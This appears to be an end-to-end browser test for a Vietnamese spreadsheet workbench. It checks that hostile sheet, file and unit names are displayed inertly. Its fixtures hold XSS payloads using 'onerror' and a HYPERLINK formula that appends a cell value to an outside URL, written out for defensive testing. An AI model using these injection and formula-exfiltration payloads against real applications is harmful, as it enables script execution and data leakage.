import type { Browser } from "playwright-core";
import { HOSTILE_TEXTS } from "../trust/hostileTexts";
import { board, workbook } from "../cli/runMain";
import { launchBrowser } from "./support/launchBrowser";
import { serveDist } from "./support/serveDist";
import type { Served } from "./support/serveDist";
import { watchTrust } from "./support/watchTrust";
import { openFile, openWorkbench } from "./support/workbenchPage";

const SHEET = "<img src=x onerror=hacked=1>";
const FILE = "<img src=x onerror=hacked=1>.xlsx";
const SHOWN = '=HYPERLINK("https://khac.vn/?d="&A1,"Bấm vào đây")';

jest.setTimeout(180_000);

let served: Served;
let browser: Browser;

beforeAll(async () => {
  served = await serveDist();
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser.close();
  await served.close();
});

test("names of units, of the sheet and of the file are shown as they are written, and do nothing", async () => {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 }, locale: "vi-VN" });
  const breaches = await watchTrust(page, served.origin);
  const pane = await openWorkbench(page, served.origin);
  const units = HOSTILE_TEXTS.map((text, index) => [index + 3, text, 8, 14, 18, 2, 5, 5]);
  const buffer = Buffer.from(workbook({ [SHEET]: [...board(), ...units] }));
  await openFile(page, FILE, buffer);
  await pane
    .getByRole("radio", { name: /Cao Bằng năm 2020/ })
    .first()
    .check();
  await pane.getByText(new RegExp(`^${String(2 + units.length)} đơn vị · 6 chỉ tiêu`)).waitFor();
  await pane.getByRole("tab", { name: "Kiểm tra" }).click();
  await pane.getByText(SHOWN).first().waitFor({ state: "attached" });
  await pane.getByRole("tab", { name: "Tính điểm" }).click();
  await pane.getByRole("button", { name: "Điền kết quả" }).waitFor();
  for (const frame of page.frames()) {
    const found = await frame.evaluate(() => ({
      hacked: Reflect.get(globalThis, "hacked") as unknown,
      made: document.querySelectorAll('img[src="x"], [onerror], [onload], a[href^="javascript:"]').length,
    }));
    expect(found).toEqual({ hacked: undefined, made: 0 });
  }
  expect(breaches).toEqual({ requests: [], violations: [], errors: [] });
  await page.close();
});
